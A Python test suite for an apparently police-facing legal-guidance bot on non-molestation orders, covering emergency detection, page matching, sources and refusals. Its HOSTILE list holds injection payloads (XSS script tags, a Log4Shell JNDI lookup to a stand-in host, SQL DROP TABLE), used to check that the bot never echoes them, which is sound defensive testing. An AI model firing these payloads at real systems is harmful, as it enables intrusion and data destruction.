"""What an answer carries, words of danger, and text meant to do harm."""

from dataclasses import replace
from datetime import date, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guidance.danger import WORDS as DANGER_WORDS
from guidance.library import Library, load
from guidance.pages import Page
from guidance.wording import IN_PILOT, LONGEST_ANSWER, NOT_IN_PILOT

TODAY = date(2026, 11, 22)
LIBRARY = load()
ABROAD = "scotland-ni"
VOCABULARY = sorted({word for page in LIBRARY.pages for text in (page.body, *page.questions) for word in text.split()})

DANGER_NOW = [
    "he's at the door now",
    "he is here now",
    "hes here",
    "kicking the door in",
    "HE'S KICKING THE DOOR IN what do i do",
    "he\N{RIGHT SINGLE QUOTATION MARK}s outside her house right now and was not served",
    "respondent is now outside the house",
    "he is smashing the windows",
    "hes got a knife",
    "he is strangling her",
    "need backup now",
    "her ex is at the front door",
    "they're here",
    "she is in danger",
]

NOT_DANGER = [
    "he kicked the door in last week",
    "he was here last night, is it a breach",
    "he was kicking the door in yesterday",
    "what do i do now she let him in",
    "she won't come to the door what now",
    "where is the order now",
    "is the order in force now",
]

HOSTILE = [
    "A" * 100_000,
    "he " * 50_000,
    "he is now " * 10_000,
    "kicking " * 12_000,
    "\N{POLICE CAR}\N{PILE OF POO}" * 25_000,
    "\x00\x00served\x00",
    "\N{RIGHT-TO-LEFT OVERRIDE}devres ton",
    "\N{ARABIC LIGATURE SALLALLAHOU ALAYHE WASALLAM}" * 5_000,
    "e" + "\N{COMBINING ACUTE ACCENT}" * 100_000,
    "[click](javascript:alert(1)) **bold** <script>alert(1)</script> <at>everyone</at>",
    "{{7*7}} ${jndi:ldap://x.example} '; DROP TABLE orders; --",
    "\ud800 lone surrogate",
]


@pytest.mark.parametrize("question", DANGER_NOW)
def test_danger_now_is_answered_before_anything_else(question: str) -> None:
    answer = LIBRARY.answer(question, TODAY)
    assert answer.answered
    assert answer.title == "Danger now"
    assert answer.page is None
    assert "emergency button" in answer.text
    assert "radio" in answer.text
    assert "Off air: 999" in answer.text
    assert "no emergency channel" in answer.text


@pytest.mark.parametrize("question", NOT_DANGER)
def test_what_is_past_or_only_asked_about_is_no_alarm(question: str) -> None:
    assert LIBRARY.answer(question, TODAY).title != "Danger now"


def test_danger_names_the_page_to_read_once_it_is_over() -> None:
    assert LIBRARY.answer("hes here now and says he was not served", TODAY).alternatives[0] == "Not served? Ask: did they know?"


def test_danger_is_heard_at_the_end_of_a_long_message() -> None:
    assert LIBRARY.answer("she rang about the order again. " * 60 + "he is here now", TODAY).title == "Danger now"


def test_only_the_first_500_characters_of_a_question_are_weighed() -> None:
    filler = "zzzz " * 100
    assert not LIBRARY.answer(filler + "is breach of an undertaking an offence", TODAY).answered


@pytest.mark.parametrize("question", HOSTILE, ids=range(len(HOSTILE)))
def test_text_meant_to_do_harm_gets_a_plain_answer_and_is_never_repeated(question: str) -> None:
    answer = LIBRARY.answer(question, TODAY)
    shown = f"{answer.title}\n{answer.text}"
    assert len(shown) <= LONGEST_ANSWER
    assert "<" not in shown
    assert "javascript" not in shown
    assert question[:40] not in shown


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=800), st.lists(st.sampled_from(VOCABULARY), max_size=40).map(" ".join)), st.dates())
def test_an_answer_always_fits_the_screen(question: str, today: date) -> None:
    answer = LIBRARY.answer(question, today)
    assert len(answer.title) + 1 + len(answer.text) <= LONGEST_ANSWER
    assert answer.answered or answer.page is None
    assert answer.title not in answer.alternatives


@settings(max_examples=60, deadline=None)
@given(st.sampled_from([(page.name, question) for page in LIBRARY.pages for question in page.questions]), st.data())
def test_case_spacing_and_punctuation_do_not_change_the_page(asked: tuple[str, str], data: st.DataObject) -> None:
    name, question = asked
    gap = data.draw(st.sampled_from([" ", "  ", "\t", "\n", " ... ", " - "]))
    shouted = data.draw(st.sampled_from([str.upper, str.title, str.lower]))
    assert _found(gap.join(shouted(question).split()) + "?!", name)


@pytest.mark.parametrize("page", LIBRARY.pages, ids=lambda page: page.name)
def test_every_question_of_a_page_finds_it(page: Page) -> None:
    assert [question for question in page.questions if not _found(question, page.name)] == []


def _found(question: str, name: str) -> bool:
    """The page, or the refusal that names it where the law of another country is asked for."""
    answer = LIBRARY.answer(question, TODAY)
    return name == (ABROAD if not answer.answered and answer.nearest == ABROAD else answer.page)


def test_one_slip_of_the_thumb_still_finds_the_page() -> None:
    asked = [
        "undertakign broken",
        "ocupation order",
        "reasonible excuse",
        "charging decison",  # codespell:ignore
        "evidense checklist",
        "awarness of the order how do i prove it",
    ]
    found = [LIBRARY.answer(question, TODAY).page for question in asked]
    assert found == ["undertaking", "occupation-order", "reasonable-excuse", "charging", "evidence-checklist", "proof-of-awareness"]


def test_an_answer_carries_its_sources_and_its_review_date() -> None:
    answer = LIBRARY.answer("not served", TODAY)
    assert [source.key for source in answer.sources] == ["S6a", "S8", "S9", "S23", "S50", "S101"]
    assert answer.reviewed == date(2026, 11, 22)
    assert not answer.review_overdue
    assert answer.text.endswith("Sources read 22 November 2026; not yet reviewed by your force.")


def test_a_page_that_somebody_of_the_force_has_reviewed_says_who() -> None:
    library = Library([replace(page, reviewer="A. Counsel") for page in LIBRARY.pages])
    assert library.answer("he was not served", TODAY).text.endswith("Reviewed 22 November 2026 by A. Counsel.")


@pytest.mark.parametrize(
    "question",
    [
        "can i nick him if its just been emailed to him",
        "she sent him the order on whatsapp can i arrest",
        "only been texted a copy of the order, can i lift him",
    ],
)
def test_whether_he_can_be_arrested_on_an_order_that_was_only_sent_to_him_is_answered_first(question: str) -> None:
    answer = LIBRARY.answer(question, TODAY)
    assert answer.text.startswith(
        "**Yes, you can arrest if they knew the order existed, however it reached them** (R v AVG: WhatsApp): PACE s.24"
    )


def test_a_page_reviewed_long_ago_says_so() -> None:
    pages = [replace(page, reviewed=TODAY - timedelta(days=100)) for page in LIBRARY.pages]
    library = Library(pages, review_every=timedelta(days=100))
    assert not library.answer("he was not served", TODAY).review_overdue
    late = library.answer("he was not served", TODAY + timedelta(days=1))
    assert late.review_overdue
    assert late.text.endswith("Review overdue: check with the force policy lead first.")


def test_the_same_question_has_the_same_answer_every_time() -> None:
    assert LIBRARY.answer("can he email her solicitor", TODAY) == load().answer("can he email her solicitor", TODAY)


def test_a_page_about_a_pilot_says_whether_the_force_is_in_it() -> None:
    question = "is the dapo pilot still running"
    inside = Library(LIBRARY.pages, pilots=frozenset({"dapo"}))
    assert LIBRARY.answer(question, TODAY).text.endswith(NOT_IN_PILOT)
    assert inside.answer(question, TODAY).text.endswith(IN_PILOT)


@pytest.mark.parametrize("asked", ["call the victim for me", "can you please text her for me", "ring the respondent for me would you"])
def test_who_asks_the_bot_to_call_somebody_is_told_that_it_never_does(asked: str) -> None:
    answer = LIBRARY.answer(asked, TODAY)
    assert not answer.answered
    assert "NMO Bot never contacts the victim or the respondent: you do." in answer.text


@pytest.mark.parametrize("asked", ["is he going to kill her", "will he kill her", "is he gonna hurt her again"])
def test_who_asks_in_words_of_danger_how_it_will_end_hears_of_help_and_gets_no_forecast(asked: str) -> None:
    answer = LIBRARY.answer(asked, TODAY)
    assert not answer.answered
    assert answer.text.index("emergency button") < answer.text.index("I cannot predict")


def test_what_was_asked_besides_is_shown_below_the_words_of_danger_with_its_sources() -> None:
    answer = LIBRARY.answer("hes in the house and there is an occupation order with power of arrest can i nick him", TODAY)
    assert answer.text.startswith(DANGER_WORDS)
    assert "Once everyone is safe: **Occupation order: can I arrest?**" in answer.text
    assert answer.sources
    assert answer.page is None


@pytest.mark.parametrize("cry", ["send help now he has a knife", "need backup", "hes got a gun"])
def test_below_a_cry_for_help_there_is_nothing_to_read(cry: str) -> None:
    assert LIBRARY.answer(cry, TODAY).text == DANGER_WORDS


def test_what_is_worded_like_the_pages_is_answered_though_few_of_its_words_are_known() -> None:
    assert LIBRARY.answer("whats molestation", TODAY).page == "harassment-terms"
    assert not LIBRARY.answer("whats a burglary", TODAY).answered
